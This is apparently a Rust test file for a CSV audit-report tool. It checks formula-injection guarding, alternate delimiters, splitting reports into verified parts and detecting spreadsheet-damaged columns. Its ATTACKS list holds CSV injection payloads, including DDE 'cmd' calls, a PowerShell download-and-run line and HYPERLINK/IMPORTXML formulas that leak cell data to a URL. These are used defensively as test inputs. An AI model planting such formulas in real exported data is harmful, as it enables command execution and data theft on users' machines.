//! CSV for spreadsheets: guarded formulas, other delimiters, and parts.

use std::collections::BTreeSet;
use std::fmt::Write as _;
use std::fs;

use super::tool::{Row, Tool, table};

const AUDIT: &str = "audit samples/incident.csv --source samples/cluster.json --expect-file samples/expected.csv \
                     --accept filtered --quiet";
const REPORT: &str = "report r.ndjson --quiet";

/// Formulas that spreadsheets run, from OWASP ("CSV Injection") and bug bounty reports.
const ATTACKS: [&str; 24] = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "  \t=1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\0=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1+1)",
    "=cmd|'/C powershell IEX(wget 127.0.0.1/x)'!A0",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "=HYPERLINK(\"http://127.0.0.1?x=\"&A1&B1,\"Error: please click\")",
    "=IMPORTXML(CONCAT(\"http://127.0.0.1?v=\",CONCATENATE(A2:E2)),\"//a\")",
    "=1+1\";=1+1",
    "-2+3+cmd|' /C calc'!E2",
    "+cmd|' /C calc'!A0,=1+1",
];

const HARMLESS: [&str; 8] = [
    "-12", "+3.5", " -7", "李娜", "a=1", "'=1+1", "1E05791C", "00012",
];

/// Returns an input whose kept column holds each of the texts, in a good and in a bad row.
fn input(texts: &[&str]) -> Vec<u8> {
    let mut csv = csv::Writer::from_writer(Vec::new());
    csv.write_record(["msg_id", "topic", "note"]).unwrap();
    for text in texts {
        csv.write_record(["0A15030B110F18B4AAC264BE6C450BA2", "orders", text])
            .unwrap();
        csv.write_record(["masked****", "orders", text]).unwrap();
    }
    csv.into_inner().unwrap()
}

#[test]
fn formulas_are_guarded_and_nothing_else_changes() {
    let tool = Tool::new();
    let texts: Vec<_> = ATTACKS.into_iter().chain(HARMLESS).collect();
    tool.write("in.csv", input(&texts));
    let audit = "audit in.csv --input-format csv --source samples/cluster.json --quiet -o a.csv -o a.ndjson \
                 --matrix m.csv --rejects bad.csv --results r.ndjson";
    tool.call(audit).ends(1);
    let guarded = |text: &&str| format!("'{text}");
    let safe: BTreeSet<_> = ATTACKS
        .iter()
        .map(guarded)
        .chain(HARMLESS.map(str::to_owned))
        .collect();
    let as_given: BTreeSet<_> = texts.iter().map(|text| (*text).to_owned()).collect();
    for name in ["a.csv", "m.csv", "bad.csv"] {
        let found: BTreeSet<_> = table(&tool.read(name))
            .into_iter()
            .map(|row| row["note"].clone())
            .collect();
        assert_eq!(found, safe, "{name}");
    }
    let last = |line: &str| serde_json::from_str::<serde_json::Value>(line).unwrap();
    let found: BTreeSet<_> = tool
        .read("a.ndjson")
        .lines()
        .filter_map(|line| Some(last(line)["extra"]["note"].as_str()?.to_owned()))
        .collect();
    assert_eq!(found, as_given, "NDJSON is never altered");
    tool.call("report r.ndjson --quiet --raw-csv -o raw.csv")
        .ends(1);
    let found: BTreeSet<_> = table(&tool.read("raw.csv"))
        .into_iter()
        .map(|row| row["note"].clone())
        .collect();
    assert_eq!(found, as_given);
}

/// Reads a file with any delimiter.
fn cells(text: &str, delimiter: u8) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .delimiter(delimiter)
        .from_reader(text.as_bytes());
    reader
        .records()
        .map(|row| row.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

#[test]
fn another_delimiter_changes_nothing_but_itself() {
    let tool = Tool::new();
    tool.call(AUDIT)
        .args("-o a.csv --matrix m.csv --rejects bad.csv --results r.ndjson")
        .ends(1);
    for (told, delimiter) in [(";", b';'), ("\\t", b'\t'), ("|", b'|')] {
        let call = tool
            .call(REPORT)
            .args("-o b.csv --matrix n.csv --rejects worse.csv --bom");
        call.arg("--output-delimiter").arg(told).ends(1);
        for (plain, other) in [
            ("a.csv", "b.csv"),
            ("m.csv", "n.csv"),
            ("bad.csv", "worse.csv"),
        ] {
            let other = tool.read(other);
            let other = other.strip_prefix('\u{feff}').expect("a byte order mark");
            assert_eq!(cells(other, delimiter), cells(&tool.read(plain), b','));
        }
    }
    for told in ["\"", "-", "a", ";;", "\n"] {
        let said = tool
            .call(REPORT)
            .arg("--output-delimiter")
            .arg(told)
            .ends(2);
        assert!(
            said.stderr.contains("expected one of , ; | ^ ~ or \\t"),
            "{}",
            said.stderr
        );
    }
}

/// Returns the parts by name, in order.
fn parts(tool: &Tool, prefix: &str) -> Vec<String> {
    let names = tool.names().into_iter();
    names.filter(|name| name.starts_with(prefix)).collect()
}

#[test]
fn long_reports_are_split_into_counted_parts() {
    let tool = Tool::new();
    tool.call(AUDIT)
        .args("-o whole.csv --matrix m.csv --results r.ndjson")
        .ends(1);
    let whole = table(&tool.read("whole.csv"));
    let call = tool.call("report r.ndjson -o a.csv --matrix m.csv --split 1500 --bom");
    let said = call.ends(1);
    let names = parts(&tool, "a.part-");
    let last = whole.len() % 1500;
    let of = names.len();
    assert_eq!(of, whole.len().div_ceil(1500));
    assert_eq!(names[0], format!("a.part-1-of-{of}.1500-rows.csv"));
    assert_eq!(
        names[of - 1],
        format!("a.part-{of}-of-{of}.{last}-rows.csv")
    );
    assert!(tool.has("m.csv"), "what fits stays one file");
    assert!(!tool.has("a.csv"));
    for part in [
        format!("files        {}: 1,500 rows", names[0]),
        format!("open {} and the other parts, filter", names[0]),
    ] {
        assert!(said.stderr.contains(&part), "{}", said.stderr);
    }
    let mut rows: Vec<Row> = Vec::new();
    for name in &names {
        let text = tool.read(name);
        let part = table(text.strip_prefix('\u{feff}').unwrap());
        assert!(name.contains(&format!(".{}-rows", part.len())));
        assert_eq!(tool.mode(name), 0o600);
        rows.extend(part);
    }
    assert_eq!(rows, whole);
    let told = tool.call("verify a.parts.json").ends(0).stdout;
    let says = format!("a.parts.json: {of} parts with ");
    assert!(told.starts_with(&says), "{told}");

    // Fewer parts leave no earlier part behind, and a whole report replaces them.
    tool.call(REPORT).args("-o a.csv --split 3000").ends(1);
    assert_eq!(parts(&tool, "a.part-").len(), whole.len().div_ceil(3000));
    tool.call(REPORT).args("-o a.csv --split 1000000").ends(1);
    assert_eq!(parts(&tool, "a."), ["a.csv"]);
    assert_eq!(table(&tool.read("a.csv")), whole);
}

#[test]
fn parts_become_visible_as_a_whole() {
    let tool = Tool::new();
    tool.call(AUDIT).args("-o a.csv --results r.ndjson").ends(1);
    let before = tool.read("a.csv");
    let call = tool.call(REPORT).args("-o a.csv --split 1000");
    call.under("trap '' XFSZ; ulimit -f 100; exec \"$@\"")
        .ends(3);
    assert_eq!(tool.names(), ["a.csv", "r.ndjson"]);
    assert_eq!(tool.read("a.csv"), before);
    for (flags, says) in [
        ("--split 1000", "- can't be split into files"),
        (
            "-o a.csv --split 0",
            "split (from --split): `0` is no number of rows; expected a whole number from 1",
        ),
        ("-o a.csv --split many", "split (from --split)"),
    ] {
        let said = tool.call(REPORT).args(flags).ends(2);
        assert!(said.stderr.contains(says), "{}", said.stderr);
        assert!(said.stderr.contains("\nhint: "), "{}", said.stderr);
    }
    assert_eq!(fs::read_dir(tool.path("")).unwrap().count(), 3);
}

#[test]
fn parts_that_are_not_those_of_their_list_are_refused() {
    let tool = Tool::new();
    tool.call(AUDIT).args("-o a.csv --results r.ndjson").ends(1);
    tool.call(REPORT).args("-o a.csv --split 1000").ends(1);
    let names = parts(&tool, "a.part-");
    let first = tool.read(&names[0]);
    tool.write(&names[0], first.replacen("CONSUMED", "CONSUMER", 1));
    let said = tool.call("verify a.parts.json").ends(2).stderr;
    let says = format!("{} was changed: its sha256 is ", names[0]);
    assert!(said.contains(&says), "{said}");
    fs::remove_file(tool.path(&names[0])).unwrap();
    let said = tool.call("verify a.parts.json").ends(2).stderr;
    assert!(said.contains(&format!("can't read {}", names[0])), "{said}");
    let outside =
        r#"{"schema":"ons-audit-parts/1","parts":[{"file":"../x","rows":1,"sha256":""}]}"#;
    let list = tool.read("a.parts.json");
    let false_rows = list.replacen("\"rows\": 1000", "\"rows\": 1001", 1);
    let mut shortened: serde_json::Value = serde_json::from_str(&list).unwrap();
    shortened["parts"].as_array_mut().unwrap().pop();
    for text in ["{}", outside, &false_rows, &shortened.to_string()] {
        tool.write("a.parts.json", text);
        let said = tool.call("verify a.parts.json").ends(2).stderr;
        let says =
            "error: a.parts.json is no list of parts, or a damaged one\nhint: remove it, then make";
        assert!(said.contains(says), "{said}");
    }
}

#[test]
fn a_list_of_parts_replaces_no_other_file() {
    let tool = Tool::new();
    tool.call(AUDIT).args("-o a.csv --results r.ndjson").ends(1);
    tool.write("own.parts.json", "{}");
    let before = tool.names();
    for (flags, says) in [
        (
            "-o a.csv -o a.parts.json",
            "a.parts.json is to list the parts of a.csv, and is another report",
        ),
        (
            "-o a.csv --matrix a.tsv",
            "a.parts.json is to list the parts of a.tsv, and is another report or its list",
        ),
        (
            "-o own.csv",
            "own.parts.json is to list the parts of own.csv, and is there and no list",
        ),
    ] {
        let said = tool.call(REPORT).args(flags).args("--split 1000").ends(2);
        assert!(said.stderr.contains(says), "{}", said.stderr);
        assert!(said.stderr.contains("\nhint: "), "{}", said.stderr);
    }
    assert_eq!(tool.names(), before);
}

#[test]
fn damaged_columns_are_named_and_not_altered() {
    let tool = Tool::new();
    let mut text = "msg_id,topic,order_id,amount,payment\n".to_owned();
    for nth in 0..8_u64 {
        let order = if nth < 5 {
            "1.23E+15".to_owned()
        } else {
            format!("A-{nth}")
        };
        let payment = 4_200_000_000_000_000_000 + nth * 100_000;
        writeln!(
            text,
            "0A15030B110F18B4AAC264BE6C450BA{nth},orders,{order},12345.50,{payment}"
        )
        .unwrap();
    }
    tool.write("in.csv", &text);
    let plan = tool
        .call("plan in.csv --source samples/cluster.json")
        .ends(0);
    assert!(
        plan.stdout
            .contains("\ncolumn order_id: 5 of 8 values look damaged"),
        "{}",
        plan.stdout
    );
    let audit = "audit in.csv --source samples/cluster.json --results r.ndjson -o a.csv -o a.json";
    let said = tool.call(audit).ends(1);
    for line in [
        "columns      column order_id: 5 of 8 values look damaged by a spreadsheet, the first is 1.23E+15 in row 1",
        "          column payment: 8 of 8 values look damaged by a spreadsheet, the first is 4200000000000000000 in row 1",
    ] {
        assert!(said.stderr.contains(line), "{}", said.stderr);
    }
    assert!(!said.stderr.contains("column amount"));
    let rows = table(&tool.read("a.csv"));
    assert_eq!(rows[0]["order_id"], "1.23E+15");
    let json: serde_json::Value = serde_json::from_str(&tool.read("a.json")).unwrap();
    assert_eq!(json["damaged_columns"][1]["column"], "payment");
}

#[test]
fn audited_reports_have_unique_columns() {
    let tool = Tool::new();
    let audit =
        "audit samples/incident.csv --source samples/cluster.json -o first.csv --results r1.ndjson";
    tool.call(audit).ends(1);
    tool.call("audit first.csv --source samples/cluster.json -o again.csv --matrix m.csv --results r2.ndjson")
        .ends(1);
    for name in ["again.csv", "m.csv"] {
        let text = tool.read(name);
        let head: Vec<_> = text.lines().next().unwrap().split(',').collect();
        let distinct: BTreeSet<_> = head.iter().collect();
        assert_eq!(distinct.len(), head.len(), "{head:?}");
        assert!(head.contains(&"input_message_verdict"), "{head:?}");
    }
}

#[test]
fn a_report_in_one_file_takes_the_place_of_earlier_parts() {
    let tool = Tool::new();
    let audit = "audit samples/incident.csv --source samples/cluster.json --results r.ndjson -q -o a.csv --split 2000";
    tool.call(audit).ends(1);
    tool.call("verify a.parts.json").ends(0);
    tool.write("a.part-1-of-2.my-rows.csv", "not ours");
    tool.call("report r.ndjson -q -o a.csv").ends(1);
    assert_eq!(
        tool.names(),
        ["a.csv", "a.part-1-of-2.my-rows.csv", "r.ndjson"]
    );
    // Reports that fit into one file are rendered again by `verify`.
    tool.call("report r.ndjson -q -o a.csv --rejects b.csv --split 1000000 --bundle e.zip")
        .ends(1);
    let said = tool.call("verify e.zip").ends(0);
    for name in ["a.csv", "b.csv"] {
        let line =
            format!("reports/{name}: the results file, rendered again, gives the same bytes");
        assert!(said.stdout.contains(&line), "{}", said.stdout);
    }
}

#[test]
fn an_ending_of_another_format_is_refused() {
    let tool = Tool::new();
    for (flag, says) in [
        (
            "--matrix m.xlsx",
            "m.xlsx: this report is a CSV, and .xlsx is the ending of another format",
        ),
        (
            "--rejects m.json",
            "m.json: this report is a CSV, and .json is the ending of another format",
        ),
        (
            "--bundle e.csv",
            "e.csv: a bundle is a ZIP, expected a name that ends in .zip",
        ),
    ] {
        for command in ["audit", "plan"] {
            let call =
                format!("{command} samples/incident.csv --source samples/cluster.json {flag}");
            let said = tool.call(&call).ends(2);
            assert!(said.stderr.contains(says), "{}", said.stderr);
        }
    }
    assert_eq!(tool.names(), [""; 0]);
}

#[test]
fn answers_to_the_same_inputs_are_no_shards() {
    let tool = Tool::new();
    let audit = "audit samples/incident.csv --source samples/cluster.json -q";
    tool.call(&format!("{audit} --results a.ndjson -o a.csv"))
        .ends(1);
    tool.call(&format!(
        "{audit} --results b.ndjson -o b.csv --accept filtered"
    ))
    .ends(1);
    let said = tool
        .call("report a.ndjson b.ndjson --expect GID_billing")
        .ends(2);
    let error = "error: a.ndjson and b.ndjson are answers to the same inputs: their messages would count twice\n\
                 hint: name one of them; `ons-audit diff a.ndjson b.ndjson` compares them";
    assert!(said.stderr.contains(error), "{}", said.stderr);
    let said = tool.call("report b.ndjson --expect GID_billing").ends(1);
    let warning = "without --accept filtered they are breaks in these reports";
    assert!(said.stderr.contains(warning), "{}", said.stderr);
}
